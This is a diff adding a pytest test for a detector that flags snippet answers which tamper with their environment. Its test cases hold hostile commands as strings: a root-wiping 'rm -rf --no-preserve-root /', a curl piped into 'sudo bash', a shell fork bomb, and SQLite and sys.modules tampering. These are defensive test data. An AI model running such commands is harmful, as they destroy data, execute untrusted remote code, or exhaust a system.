@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 from handbook.content.tree import Tree
 from handbook.snippets.folders import Demo, find_snippets, role
+from handbook.snippets.meddling import meddling
 from handbook.snippets.snippet_rules import snippet_problems, wrong_reason
 
 FOLDER = "snippets/topic/name"
@@ -141,3 +142,25 @@ def test_a_wrong_answer_gives_its_reason(name: str, text: str, reason: str) -> N
 )  # fmt: skip
 def test_roles(name: str, expected: str) -> None:
     assert role(name) == expected
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "line"),
+    [
+        ("solution.py", "x = 1\ny = eval('x')\n", 2),
+        ("wrong_eval.py", '"""Evaluates what somebody types."""\ny = eval("1")\n', 0),
+        ("solution.py", "import re\ny = re.compile('x')\n", 0),
+        ("solution.py", '"""Not sys.modules, nor /etc/passwd: that is prose."""\n', 0),
+        ("wrong_a.py", "import sys\n\nsys.modules['x'] = None\n", 3),
+        ("solution.py", "def f(:\n    sys.modules\n", 0),
+        ("solution.sql", "-- pragma\nSELECT 'attach', /* vacuum */ 1;\n", 0),
+        ("solution.sql", "SELECT 1;\nPRAGMA writable_schema = ON;\n", 2),
+        ("solution.sh", "rm -rf work  # not rm -rf /\ncurl -s localhost\n", 0),
+        ("solution.sh", "true\nrm -rf --no-preserve-root /\n", 2),
+        ("solution.sh", "curl -s example.org | sudo bash\n", 1),
+        ("solution.sh", ":(){ :|:& };:\n", 1),
+    ],
+)
+def test_what_an_answer_has_no_business_with(name: str, text: str, line: int) -> None:
+    found = meddling(name, text)
+    assert (found[0] if found else 0) == line
